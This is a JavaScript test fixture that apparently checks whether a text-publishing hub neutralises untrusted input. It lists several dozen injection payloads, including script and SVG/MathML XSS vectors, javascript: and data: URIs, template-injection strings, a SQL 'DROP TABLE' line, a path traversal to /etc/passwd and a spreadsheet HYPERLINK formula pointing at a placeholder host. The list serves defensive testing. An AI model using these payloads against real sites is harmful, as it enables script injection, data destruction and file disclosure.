// What somebody writes who hopes that a page, a reader or another program takes words for something else. Whatever of it ran
// would open a dialog, ask a host of its own for something, or speak on the console: a story fails on each.
const RUNS = "alert(1)";
/** No such host exists; whoever asks for it is found by the name. */
export const FOREIGN = "foreign.invalid";
const AWAY = `https://${FOREIGN}`;

/** Markup that would run or load something. */
export const MARKUP = [
  `<script>${RUNS}</script>`,
  `</title><script>${RUNS}</script>`,
  `<ScRiPt src=${AWAY}/x.js></sCrIpT>`,
  `<scr<script>ipt>${RUNS}</scr</script>ipt>`,
  `"><script>${RUNS}</script>`,
  `'><img src=x onerror=${RUNS}>`,
  `<img src=${AWAY}/x.png onerror="${RUNS}">`,
  `<img/src="x"/onerror=${RUNS}//`,
  `<img srcset="${AWAY}/y.png 2x" alt="</img>">`,
  `<svg onload=${RUNS}>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUNS}"><text>t</text></a></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUNS}>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUNS}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUNS}></style>`,
  `<math href="javascript:${RUNS}">m</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUNS}></annotation-xml></math>`,
  `<iframe src="javascript:${RUNS}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUNS}&lt;/script&gt;"></iframe>`,
  `<object data="${AWAY}/x.swf"></object>`,
  `<embed src="data:text/html,<script>${RUNS}</script>">`,
  `<form action="javascript:${RUNS}"><input type=submit value=go autofocus></form>`,
  `<input onfocus=${RUNS} autofocus>`,
  `<button formaction="javascript:${RUNS}">press</button>`,
  `<details open ontoggle=${RUNS}>open</details>`,
  `<video src=${AWAY}/v.mp4 onerror=${RUNS}></video>`,
  `<audio autoplay><source onerror=${RUNS}></audio>`,
  `<body onload=${RUNS} background=${AWAY}/b.png>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}/">`,
  `<base href="${AWAY}/">`,
  `<link rel=stylesheet href=${AWAY}/s.css>`,
  `<style>@import url(${AWAY}/s.css); * { background: url(${AWAY}/c.png) }</style>`,
  `<p style="background:url(${AWAY}/d.png);position:fixed">styled</p>`,
  `<a href="javascript:${RUNS}">link</a>`,
  `<a href=" jAvA&Tab;sCrIpT:${RUNS}">link</a>`,
  `<a href="data:text/html,<script>${RUNS}</script>">link</a>`,
  `<template><script>${RUNS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `<textarea></textarea><script>${RUNS}</script>`,
  `<xmp><img src=x onerror=${RUNS}></xmp>`,
  `<marquee onstart=${RUNS}>moves</marquee>`,
  `<!--><script>${RUNS}</script-->`,
  `<![CDATA[<script>${RUNS}</script>]]>`,
  `<?xml-stylesheet href="${AWAY}/x.xsl"?>`,
];

/** Words that another language than HTML would take for something. */
export const WORDS = [
  `javascript:${RUNS}`,
  `java\u200bscript:${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `vbscript:msgbox(1)`,
  `&lt;script&gt;${RUNS}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUNS}&#62;`,
  `{{constructor.constructor("${RUNS}")()}}`,
  `\${${RUNS}}`,
  `#{${RUNS}} <%= ${RUNS} %>`,
  `[link](javascript:${RUNS})`,
  `![picture](${AWAY}/m.png)`,
  `#eval("${RUNS}") #image("${AWAY}/t.png")`,
  `'; DROP TABLE books; --`,
  `../../../../etc/passwd`,
  `=HYPERLINK("${AWAY}","sum")`,
  `__proto__`,
  `constructor`,
  `toString`,
  `hasOwnProperty`,
  `undefined`,
  `null`,
  `NaN`,
  `\u200f\u202eevil\u202c\u200e mirrored`,
  `zero\u200b\u200c\u200d\u2060width`,
  `nothing\u0000behind`,
  `\u001b[31mred\u001b[0m`,
  `Z${"\u0310\u0337".repeat(40)}algo`,
  `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3fd}`,
  `\ufeff\ufffe\uffff noncharacters`,
];

export const PAYLOADS = [...MARKUP, ...WORDS];

/** One line as a hub keeps it: composed, without controls and overrides, blanks collapsed. */
export function kept(text) {
  const plain = text.replace(/[\p{Cc}\u202a-\u202e\u2066-\u2069\ufeff]/gu, (unsafe) => (/\s/.test(unsafe) && unsafe !== "\ufeff" ? " " : ""));
  return plain.normalize("NFC").split(/\s+/u).filter((word) => word !== "").join(" ");
}

/** What a browser shows of a text: white space is one blank. */
export function visible(text) {
  return text.replace(/\s+/gu, " ").trim();
}
